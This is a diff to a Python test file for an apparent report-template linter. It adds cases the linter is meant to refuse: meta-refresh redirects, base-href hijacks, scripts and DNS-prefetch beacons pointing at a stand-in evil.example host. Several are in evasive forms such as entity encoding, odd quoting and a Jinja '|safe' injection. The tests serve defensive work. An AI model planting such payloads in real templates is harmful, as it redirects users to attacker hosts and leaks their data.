@@ -23,6 +23,13 @@ def _styled(id: str, threat: str, sheet: Put, *refused: str) -> Case:
     return Case(id, threat, {"templates/styles/report.css": sheet}, tuple(refused))
 
 
+def _framed(id: str, line: str, code: str) -> Case:
+    """A frame of all pages that holds a line; the policy of the site does not restrain what it does."""
+    frame = f"<!doctype html>\n<html><head>\n{line}\n</head><body>{{% block content %}}{{% endblock %}}</body></html>"
+    file = "templates/layout/page.html.jinja"
+    return Case(id, "templates that lead elsewhere", {file: frame}, (f"{code} {file}:3",))
+
+
 def _set(id: str, threat: str, settings: Put, refused: str) -> Case:
     return Case(id, threat, {"roireport.yaml": settings}, (refused,))
 
@@ -69,8 +76,31 @@ STYLES: Final = tuple(
         ("a-background", "p {{ background: url({url}/a.png) }}\n", "E921 templates/styles/report.css:1"),
         ("a-face", "@font-face {{ font-family: X; src: url('{url}/a.ttf') }}\n", "E921 templates/styles/report.css:1"),
         ("content", "p::before {{ content: url({url}/a.png) }}\n", "E921 templates/styles/report.css:1"),
+        (
+            "a-set-of-pictures",
+            "p {{ background: image-set('{url}/a.png' 1x) }}\n",
+            "E921 templates/styles/report.css:1",
+        ),
         ("a-list-style-image", "ul {{ list-style-image: url({url}/a.png) }}\n", "E921 templates/styles/report.css:1"),
     )
+)
+FRAMES: Final = (
+    _framed("a-redirect", f'<meta http-equiv="refresh" content="0;url={EVIL}/">', "E924"),
+    _framed("a-redirect-in-capitals", f"<META CONTENT='0;{EVIL}' HTTP-EQUIV=Refresh />", "E924"),
+    _framed("a-redirect-by-entities", f'<meta http-equiv="&#114;efresh" content="0;{EVIL}">', "E924"),
+    _framed("a-redirect-beside-a-quote", f'<meta a"b http-equiv=refresh content="0;{EVIL}">', "E924"),
+    _framed("a-redirect-without-scripts", f'<noscript><meta http-equiv="refresh" content="0;{EVIL}">', "E924"),
+    _framed("a-cookie", '<meta http-equiv="Set-Cookie" content="a=b">', "E924"),
+    _framed("another-base", f'<base href="{EVIL}/">', "E925"),
+    _framed("another-base-after-a-comment-that-ends-at-once", f"<!--><base href={EVIL}>", "E925"),
+    _framed("a-script-within", "<script>location='https://evil.example'</script>", "E926"),
+    _framed("a-script-from-outside", f'<script src="{EVIL}/a.js"></script>', "E926"),
+    _framed("a-script-that-is-data", '<script src="portfolio.csv"></script>', "E926"),
+    _framed("a-script-that-runs-ahead", '<script type="speculationrules">{"prefetch":[]}</script>', "E926"),
+    _framed("a-script-of-several-lines", "<script\n>alert(1)</script>", "E926"),
+    _framed("a-name-looked-up", '<link rel="dns-prefetch" href="//{{ frame.firm }}.evil.example">', "E921"),
+    _framed("a-connection-ahead", f'<link href="{EVIL}" rel="Preconnect stylesheet">', "E921"),
+    _framed("a-redirect-in-an-expression", "{{ '<meta http-equiv=refresh content=0;//evil.example>'|safe }}", "E924"),
 )
 SETTINGS: Final = (
     _set(
@@ -99,4 +129,4 @@ SETTINGS: Final = (
         "E102 templates/styles/report.css",
     ),
 )
-ALONE: Final = (*LOGOS, *STYLES, *SETTINGS)
+ALONE: Final = (*LOGOS, *STYLES, *FRAMES, *SETTINGS)
